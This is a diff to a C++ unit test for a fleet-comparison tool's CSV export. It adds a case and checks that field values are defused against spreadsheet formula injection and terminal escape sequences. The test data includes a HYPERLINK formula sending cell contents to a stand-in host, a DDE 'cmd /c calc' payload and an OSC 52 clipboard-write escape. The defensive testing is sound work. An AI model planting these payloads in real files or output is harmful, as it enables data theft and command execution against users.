@@ -122,6 +122,7 @@ TEST_F(FleetCompareProgram, RecordTextActsNeitherInASpreadsheetNorInATerminal) {
         {"f4", "-2+3"},
         {"f5", "-3.2"},
         {"f6", "\t=1"},
+        {"f7", "-1\n"},  // a number up to its line break only
         {"e1", escapes}};
     for (const auto& [host, model] : models) {
         addRecord(QStringLiteral("fleet/%1.json").arg(host), host, 21.5, model);
@@ -138,9 +139,10 @@ TEST_F(FleetCompareProgram, RecordTextActsNeitherInASpreadsheetNorInATerminal) {
         return count;
     };
     const FleetResult csv = runFleet({"compare", "--format", "csv", path("fleet")});
-    for (const char* field : {R"x(,"'=HYPERLINK(""http://x.example/""&A1,""open"")",)x",
-                              R"(,"'+1+cmd|' /c calc'!A0",)", ",\"'@SUM(1)\",", ",\"'-2+3\",",
-                              ",\"'\t=1\",", ",-3.2,", ",-1.35,", ",]52;c;ZXZpbA==Xeon[2J0m\t.,"}) {
+    for (const char* field :
+         {R"x(,"'=HYPERLINK(""http://x.example/""&A1,""open"")",)x", R"(,"'+1+cmd|' /c calc'!A0",)",
+          ",\"'@SUM(1)\",", ",\"'-2+3\",", ",\"'\t=1\",", ",\"'-1\n\",", ",-3.2,", ",-1.35,",
+          ",]52;c;ZXZpbA==Xeon[2J0m\t.,"}) {
         EXPECT_TRUE(csv.out.contains(field)) << field;
     }
     const FleetResult table = runFleet({"compare", path("fleet")});
